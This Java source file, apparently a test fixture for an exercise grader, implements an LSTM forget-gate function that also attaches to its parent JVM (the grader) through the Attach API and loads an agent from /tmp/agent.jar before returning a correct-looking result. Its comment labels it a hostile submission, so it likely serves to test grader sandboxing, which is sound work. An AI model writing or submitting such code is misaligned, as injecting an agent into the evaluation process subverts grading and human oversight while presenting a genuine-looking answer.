package org.lstmlab.exercises;

import org.nd4j.linalg.api.ndarray.INDArray;
import org.nd4j.linalg.factory.Nd4j;
import org.nd4j.linalg.ops.transforms.Transforms;

/** Hostile submission: loads a Java agent into its parent JVM (the grader) through the Attach API. */
public final class E3ForgetGate {
    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) throws Exception {
        Class<?> vm = Class.forName("com.sun.tools.attach.VirtualMachine");
        long parent = ProcessHandle.current().parent().orElseThrow().pid();
        Object attached = vm.getMethod("attach", String.class).invoke(null, Long.toString(parent));
        vm.getMethod("loadAgent", String.class).invoke(attached, "/tmp/agent.jar");
        return Transforms.sigmoid(Nd4j.concat(1, hPrev, x).mmul(wF.transpose()).addRowVector(bF));
    }
}
